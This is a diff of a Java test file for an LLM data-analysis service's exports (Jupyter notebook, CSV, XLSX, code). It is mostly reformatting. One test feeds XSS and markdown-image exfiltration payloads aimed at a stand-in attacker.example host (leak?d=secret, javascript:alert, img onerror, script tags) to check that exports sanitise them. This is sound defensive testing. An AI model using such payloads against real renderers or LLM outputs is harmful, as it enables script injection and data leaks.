@@ -5,25 +5,8 @@ import static org.hamcrest.Matchers.containsString;
 import static org.junit.jupiter.api.Assertions.assertEquals;
 import static org.junit.jupiter.api.Assertions.assertTrue;
 
-import java.io.ByteArrayInputStream;
-import java.nio.charset.StandardCharsets;
-import java.nio.file.Files;
-import java.nio.file.Path;
-import java.util.ArrayList;
-import java.util.List;
-import java.util.Map;
-import java.util.concurrent.TimeUnit;
-
-import org.apache.poi.ss.usermodel.CellType;
-import org.apache.poi.ss.usermodel.Row;
-import org.apache.poi.ss.usermodel.Sheet;
-import org.apache.poi.xssf.usermodel.XSSFWorkbook;
-import org.junit.jupiter.api.BeforeEach;
-import org.junit.jupiter.api.Test;
-
 import com.fasterxml.jackson.databind.JsonNode;
 import com.fasterxml.jackson.databind.ObjectMapper;
-
 import io.llmanalytics.testing.SseEvents;
 import io.llmanalytics.testing.Uploads;
 import io.llmanalytics.testing.llm.InjectOpenAiStub;
@@ -33,6 +16,20 @@ import io.llmanalytics.testing.llm.StubResponse;
 import io.quarkus.test.junit.QuarkusTest;
 import io.quarkus.test.junit.TestProfile;
 import io.restassured.response.Response;
+import java.io.ByteArrayInputStream;
+import java.nio.charset.StandardCharsets;
+import java.nio.file.Files;
+import java.nio.file.Path;
+import java.util.ArrayList;
+import java.util.List;
+import java.util.Map;
+import java.util.concurrent.TimeUnit;
+import org.apache.poi.ss.usermodel.CellType;
+import org.apache.poi.ss.usermodel.Row;
+import org.apache.poi.ss.usermodel.Sheet;
+import org.apache.poi.xssf.usermodel.XSSFWorkbook;
+import org.junit.jupiter.api.BeforeEach;
+import org.junit.jupiter.api.Test;
 
 /**
  * Exports of answers through the API: the notebook is valid nbformat 4 and, run in a Jupyter kernel next to the
@@ -76,9 +73,15 @@ class InteractionExportsTest {
 
     private JsonNode ask(String session, String question, String code, String interpretation) {
         stub.respond(r -> r.streaming() ? StubResponse.content(interpretation) : StubResponse.code(code));
-        JsonNode done = SseEvents.parse(given().contentType("application/json").accept("text/event-stream")
-                .body(Map.of("question", question)).post("/api/session/" + session + "/analyze").then()
-                .statusCode(200).extract().asString()).done();
+        JsonNode done = SseEvents.parse(given().contentType("application/json")
+                        .accept("text/event-stream")
+                        .body(Map.of("question", question))
+                        .post("/api/session/" + session + "/analyze")
+                        .then()
+                        .statusCode(200)
+                        .extract()
+                        .asString())
+                .done();
         assertTrue(done.get("error").isNull(), done.toString());
         return done;
     }
@@ -86,8 +89,10 @@ class InteractionExportsTest {
     @Test
     void theNotebookRunsAndReproducesTheAnswers() throws Exception {
         String session = Uploads.sessionOf("sales.csv", SALES);
-        List<JsonNode> answers = List.of(ask(session, "Revenue by category as a chart?", CHART),
-                ask(session, "Which products sold over 300?", TABLE), ask(session, "Average units?", SCALAR));
+        List<JsonNode> answers = List.of(
+                ask(session, "Revenue by category as a chart?", CHART),
+                ask(session, "Which products sold over 300?", TABLE),
+                ask(session, "Average units?", SCALAR));
         // the chart carries the data behind it, as drawn: the bars are the series' values by category
         JsonNode plot = answers.get(0).get("charts").get(0).get("plot");
         JsonNode axes = plot.get("axes").get(0);
@@ -99,13 +104,21 @@ class InteractionExportsTest {
         answers.get(0).get("raw_result").get("data").fieldNames().forEachRemaining(categories::add);
         assertEquals(categories, JSON.convertValue(bars.get("x"), List.class));
         for (int i = 0; i < categories.size(); i++) {
-            assertEquals(answers.get(0).get("raw_result").get("data").get(categories.get(i)).asDouble(),
-                    bars.get("y").get(i).asDouble(), 1e-9);
+            assertEquals(
+                    answers.get(0)
+                            .get("raw_result")
+                            .get("data")
+                            .get(categories.get(i))
+                            .asDouble(),
+                    bars.get("y").get(i).asDouble(),
+                    1e-9);
         }
         assertTrue(answers.get(1).get("charts").isEmpty());
 
         Response notebook = given().get("/api/session/" + session + "/notebook");
-        notebook.then().statusCode(200).contentType("application/x-ipynb+json")
+        notebook.then()
+                .statusCode(200)
+                .contentType("application/x-ipynb+json")
                 .header("Content-Disposition", containsString("attachment"));
         JsonNode nb = JSON.readTree(notebook.asByteArray());
         assertEquals(4, nb.get("nbformat").asInt());
@@ -115,30 +128,59 @@ class InteractionExportsTest {
         assertTrue(intro.contains("sales.csv"), intro);
         JsonNode chartCell = nb.get("cells").get(3);
         assertTrue(chartCell.get("outputs").toString().contains("image/png"), "the stored chart is an output");
-        String href = JSON.readTree(given().get("/api/session/" + session).then().statusCode(200).extract().asString())
-                .get("history").get(0).get("charts").get(0).get("href").asText();
-        String storedImage = java.util.Base64.getEncoder().encodeToString(given().get(href).then().statusCode(200)
-                .contentType("image/png").extract().asByteArray());
-        assertEquals(List.of(storedImage), chartCell.get("outputs").findValues("image/png").stream()
-                .map(JsonNode::asText).toList(), "the chart stored with the answer is the step's image output");
+        String href = JSON.readTree(given().get("/api/session/" + session)
+                        .then()
+                        .statusCode(200)
+                        .extract()
+                        .asString())
+                .get("history")
+                .get(0)
+                .get("charts")
+                .get(0)
+                .get("href")
+                .asText();
+        String storedImage = java.util.Base64.getEncoder()
+                .encodeToString(given().get(href)
+                        .then()
+                        .statusCode(200)
+                        .contentType("image/png")
+                        .extract()
+                        .asByteArray());
+        assertEquals(
+                List.of(storedImage),
+                chartCell.get("outputs").findValues("image/png").stream()
+                        .map(JsonNode::asText)
+                        .toList(),
+                "the chart stored with the answer is the step's image output");
         assertTrue(nb.get("cells").get(5).get("outputs").toString().contains("text/html"), "a table is HTML");
 
         Path dir = Files.createTempDirectory("notebook-");
         Files.write(dir.resolve("session.ipynb"), notebook.asByteArray());
-        Files.write(dir.resolve("sales.csv"), given().get("/api/session/" + session + "/export?dataset=sales&format=csv")
-                .then().statusCode(200).extract().asByteArray());
+        Files.write(
+                dir.resolve("sales.csv"),
+                given().get("/api/session/" + session + "/export?dataset=sales&format=csv")
+                        .then()
+                        .statusCode(200)
+                        .extract()
+                        .asByteArray());
         JsonNode run = runNotebook(dir.resolve("session.ipynb"));
         assertEquals(List.of(1, 0, 0), JSON.convertValue(run.get("charts"), List.class), "the chart is drawn again");
         JsonNode results = run.get("results");
         // the series, as stored
-        assertEquals(answers.get(0).get("raw_result").get("data"), results.get(0).get("data"));
+        assertEquals(
+                answers.get(0).get("raw_result").get("data"), results.get(0).get("data"));
         // the table (formula-like text restored from the export's neutralised CSV)
         JsonNode stored = answers.get(1).get("raw_result");
         assertEquals(stored.get("columns"), results.get(1).get("columns"));
         List<List<Object>> storedRows = new ArrayList<>();
-        stored.get("data").forEach(row -> storedRows.add(List.of(row.get("product").asText(), row.get("revenue").asDouble())));
+        stored.get("data")
+                .forEach(row -> storedRows.add(
+                        List.of(row.get("product").asText(), row.get("revenue").asDouble())));
         List<List<Object>> rerunRows = new ArrayList<>();
-        results.get(1).get("data").forEach(row -> rerunRows.add(List.of(row.get(0).asText(), row.get(1).asDouble())));
+        results.get(1)
+                .get("data")
+                .forEach(row ->
+                        rerunRows.add(List.of(row.get(0).asText(), row.get(1).asDouble())));
         assertEquals(storedRows, rerunRows);
         assertTrue(rerunRows.stream().anyMatch(r -> r.get(0).equals("-Laptop")), rerunRows.toString());
         assertEquals(answers.get(2).get("raw_result").asDouble(), results.get(2).asDouble(), 1e-12);
@@ -147,10 +189,12 @@ class InteractionExportsTest {
     private static JsonNode runNotebook(Path notebook) throws Exception {
         Path script = Path.of("src/test/resources/export/run_notebook.py").toAbsolutePath();
         ProcessBuilder builder = new ProcessBuilder("/usr/bin/python3", script.toString(), notebook.toString())
-                .directory(notebook.getParent().toFile()).redirectErrorStream(false);
+                .directory(notebook.getParent().toFile())
+                .redirectErrorStream(false);
         builder.environment().put("PATH", "/usr/bin:/bin");
         builder.environment().put("HOME", notebook.getParent().toString());
-        builder.environment().put("MPLCONFIGDIR", notebook.getParent().resolve("mpl").toString());
+        builder.environment()
+                .put("MPLCONFIGDIR", notebook.getParent().resolve("mpl").toString());
         builder.environment().remove("PYTHONPATH");
         builder.environment().remove("MPLBACKEND");
         Path err = notebook.getParent().resolve("stderr.txt");
@@ -168,13 +212,19 @@ class InteractionExportsTest {
         String csv = "\"![c](https://attacker.example/col.png)\",\"<b>x</b>\"\nNorth,1\nSouth,2\n";
         String session = Uploads.sessionOf("hostile.csv", csv);
         List<String[]> asked = List.of(
-                new String[] { "Count rows ![x](https://attacker.example/leak?d=q)\r[a](javascript:alert(1))?",
-                        "See ![x](https://attacker.example/leak?d=secret) and [click](javascript:alert(x))." },
-                new String[] { "<img src=x onerror=alert(1)> <https://attacker.example/auto>\u2028# heading",
-                        "Raw <script>alert(x)</script>\r\n[ref][r]\n\n[r]: https://attacker.example/ref\u2029"
-                                + "![y][r] <https://attacker.example/a> www.attacker.example user@attacker.example" },
-                new String[] { "| a | b |\n|---|---|\u0085- item\r> quote",
-                        "&amp;lt;script&gt; javascript: *em* `code` <!-- c --> \\![x](//attacker.example/x.png)" });
+                new String[] {
+                    "Count rows ![x](https://attacker.example/leak?d=q)\r[a](javascript:alert(1))?",
+                    "See ![x](https://attacker.example/leak?d=secret) and [click](javascript:alert(x))."
+                },
+                new String[] {
+                    "<img src=x onerror=alert(1)> <https://attacker.example/auto>\u2028# heading",
+                    "Raw <script>alert(x)</script>\r\n[ref][r]\n\n[r]: https://attacker.example/ref\u2029"
+                            + "![y][r] <https://attacker.example/a> www.attacker.example user@attacker.example"
+                },
+                new String[] {
+                    "| a | b |\n|---|---|\u0085- item\r> quote",
+                    "&amp;lt;script&gt; javascript: *em* `code` <!-- c --> \\![x](//attacker.example/x.png)"
+                });
         for (String[] qa : asked) {
             ask(session, qa[0], "result = len(df)", qa[1]);
         }
@@ -185,8 +235,12 @@ class InteractionExportsTest {
         for (JsonNode cell : nb.get("cells")) {
             if (cell.get("cell_type").asText().equals("markdown")) {
                 String source = String.join("", JSON.convertValue(cell.get("source"), List.class));
-                assertTrue(!source.contains("\r") && !source.contains("\u2028") && !source.contains("\u2029")
-                        && !source.contains("\u0085"), "line breaks are normalised: " + source);
+                assertTrue(
+                        !source.contains("\r")
+                                && !source.contains("\u2028")
+                                && !source.contains("\u2029")
+                                && !source.contains("\u0085"),
+                        "line breaks are normalised: " + source);
                 markdown.add(source);
             }
         }
@@ -203,16 +257,25 @@ class InteractionExportsTest {
             }
         }
         for (int i = 0; i < asked.size(); i++) {
-            String shown = MarkdownTextTest.words(MarkdownTextTest.textOf(rendered.get(i + 1).get("mistune").asText()));
-            assertTrue(shown.contains(MarkdownTextTest.words(asked.get(i)[0].replaceAll("[\r\n\u0085\u2028\u2029]+", " "))),
+            String shown = MarkdownTextTest.words(
+                    MarkdownTextTest.textOf(rendered.get(i + 1).get("mistune").asText()));
+            assertTrue(
+                    shown.contains(
+                            MarkdownTextTest.words(asked.get(i)[0].replaceAll("[\r\n\u0085\u2028\u2029]+", " "))),
                     "the question shows as asked: " + shown);
-            assertTrue(shown.contains(MarkdownTextTest.words(asked.get(i)[1])), "the interpretation as written: " + shown);
+            assertTrue(
+                    shown.contains(MarkdownTextTest.words(asked.get(i)[1])), "the interpretation as written: " + shown);
         }
         // still a valid notebook that runs (nbformat.validate, then nbclient on an ipykernel)
         Path dir = Files.createTempDirectory("notebook-");
         Files.write(dir.resolve("session.ipynb"), notebook.asByteArray());
-        Files.write(dir.resolve("hostile.csv"), given().get("/api/session/" + session + "/export?dataset=hostile&format=csv")
-                .then().statusCode(200).extract().asByteArray());
+        Files.write(
+                dir.resolve("hostile.csv"),
+                given().get("/api/session/" + session + "/export?dataset=hostile&format=csv")
+                        .then()
+                        .statusCode(200)
+                        .extract()
+                        .asByteArray());
         JsonNode run = runNotebook(dir.resolve("session.ipynb"));
         assertEquals(List.of(2, 2, 2), JSON.convertValue(run.get("results"), List.class));
     }
@@ -224,36 +287,56 @@ class InteractionExportsTest {
         JsonNode table = ask(session, "Which products sold over 300?", TABLE);
         String base = "/api/session/" + session + "/interactions/";
 
-        String csv = given().get(base + series.get("conversation_id").asText() + "/result.csv").then().statusCode(200)
-                .contentType(containsString("text/csv")).header("Content-Disposition", containsString("attachment"))
-                .extract().asString();
+        String csv = given().get(base + series.get("conversation_id").asText() + "/result.csv")
+                .then()
+                .statusCode(200)
+                .contentType(containsString("text/csv"))
+                .header("Content-Disposition", containsString("attachment"))
+                .extract()
+                .asString();
         assertEquals("category,revenue\nElectronics,1599.5\nFurniture,550.5\nOffice,15.0\n", csv);
 
-        String tableCsv = given().get(base + table.get("conversation_id").asText() + "/result.csv").then()
-                .statusCode(200).extract().asString();
+        String tableCsv = given().get(base + table.get("conversation_id").asText() + "/result.csv")
+                .then()
+                .statusCode(200)
+                .extract()
+                .asString();
         assertTrue(tableCsv.contains("'-Laptop"), "formula-like text is neutralised: " + tableCsv);
 
-        byte[] xlsx = given().get(base + table.get("conversation_id").asText() + "/result.xlsx").then().statusCode(200)
-                .contentType("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet").extract().asByteArray();
+        byte[] xlsx = given().get(base + table.get("conversation_id").asText() + "/result.xlsx")
+                .then()
+                .statusCode(200)
+                .contentType("application/vnd.openxmlformats-officedocument.spreadsheetml.sheet")
+                .extract()
+                .asByteArray();
         try (XSSFWorkbook workbook = new XSSFWorkbook(new ByteArrayInputStream(xlsx))) {
             Sheet sheet = workbook.getSheetAt(0);
             Row header = sheet.getRow(0);
-            assertEquals(List.of("index", "product", "revenue"), List.of(header.getCell(0).getStringCellValue(),
-                    header.getCell(1).getStringCellValue(), header.getCell(2).getStringCellValue()));
+            assertEquals(
+                    List.of("index", "product", "revenue"),
+                    List.of(
+                            header.getCell(0).getStringCellValue(),
+                            header.getCell(1).getStringCellValue(),
+                            header.getCell(2).getStringCellValue()));
             JsonNode raw = table.get("raw_result");
             assertEquals(raw.get("data").size(), sheet.getLastRowNum());
             for (int i = 0; i < raw.get("data").size(); i++) {
                 Row row = sheet.getRow(i + 1);
                 JsonNode stored = raw.get("data").get(i);
                 assertEquals(raw.get("index").get(i).asDouble(), row.getCell(0).getNumericCellValue(), 1e-12);
-                assertEquals(FormulaGuard.neutralise(stored.get("product").asText()), row.getCell(1).getStringCellValue());
+                assertEquals(
+                        FormulaGuard.neutralise(stored.get("product").asText()),
+                        row.getCell(1).getStringCellValue());
                 assertEquals(CellType.NUMERIC, row.getCell(2).getCellType());
                 assertEquals(stored.get("revenue").asDouble(), row.getCell(2).getNumericCellValue(), 1e-12);
             }
         }
 
-        given().get(base + table.get("conversation_id").asText() + "/code.py").then().statusCode(200)
-                .contentType(containsString("text/x-python")).body(org.hamcrest.Matchers.is(TABLE + "\n"));
+        given().get(base + table.get("conversation_id").asText() + "/code.py")
+                .then()
+                .statusCode(200)
+                .contentType(containsString("text/x-python"))
+                .body(org.hamcrest.Matchers.is(TABLE + "\n"));
     }
 
     @Test
@@ -261,26 +344,41 @@ class InteractionExportsTest {
         String session = Uploads.sessionOf("sales.csv", SALES);
         JsonNode scalar = ask(session, "Average units?", SCALAR);
         String base = "/api/session/" + session + "/interactions/";
-        given().get(base + scalar.get("conversation_id").asText() + "/result.csv").then().statusCode(404)
-                .contentType("application/problem+json").body("detail", containsString("not a table"));
+        given().get(base + scalar.get("conversation_id").asText() + "/result.csv")
+                .then()
+                .statusCode(404)
+                .contentType("application/problem+json")
+                .body("detail", containsString("not a table"));
         given().get(base + "no-such-id/result.xlsx").then().statusCode(404).contentType("application/problem+json");
         given().get(base + "no-such-id/code.py").then().statusCode(404).contentType("application/problem+json");
-        given().get("/api/session/00000000-0000-0000-0000-000000000000/notebook").then().statusCode(404)
+        given().get("/api/session/00000000-0000-0000-0000-000000000000/notebook")
+                .then()
+                .statusCode(404)
                 .contentType("application/problem+json");
     }
 
     @Test
     void largeTablesAreCutOrRefused() {
         String session = Uploads.sessionOf("sales.csv", SALES);
-        JsonNode long_ = ask(session, "Numbers?", "result = pd.DataFrame({'n': range(InteractionExports_MAX + 5)})"
-                .replace("InteractionExports_MAX", String.valueOf(InteractionExports.MAX_EXPORT_ROWS)));
+        JsonNode long_ = ask(
+                session,
+                "Numbers?",
+                "result = pd.DataFrame({'n': range(InteractionExports_MAX + 5)})"
+                        .replace("InteractionExports_MAX", String.valueOf(InteractionExports.MAX_EXPORT_ROWS)));
         String base = "/api/session/" + session + "/interactions/";
-        String csv = given().get(base + long_.get("conversation_id").asText() + "/result.csv").then().statusCode(200)
-                .header("X-Result-Truncated", "true").extract().asString();
+        String csv = given().get(base + long_.get("conversation_id").asText() + "/result.csv")
+                .then()
+                .statusCode(200)
+                .header("X-Result-Truncated", "true")
+                .extract()
+                .asString();
         assertEquals(InteractionExports.MAX_EXPORT_ROWS + 1, csv.split("\n").length, "the header and the rows kept");
         assertTrue(csv.startsWith("n\n0\n1\n"), csv.substring(0, 20));
         JsonNode wide = ask(session, "Text?", "result = pd.DataFrame({'t': ['x' * 300] * 15000})");
-        given().get(base + wide.get("conversation_id").asText() + "/result.xlsx").then().statusCode(422)
-                .contentType("application/problem+json").body("detail", containsString("larger than an export holds"));
+        given().get(base + wide.get("conversation_id").asText() + "/result.xlsx")
+                .then()
+                .statusCode(422)
+                .contentType("application/problem+json")
+                .body("detail", containsString("larger than an export holds"));
     }
 }
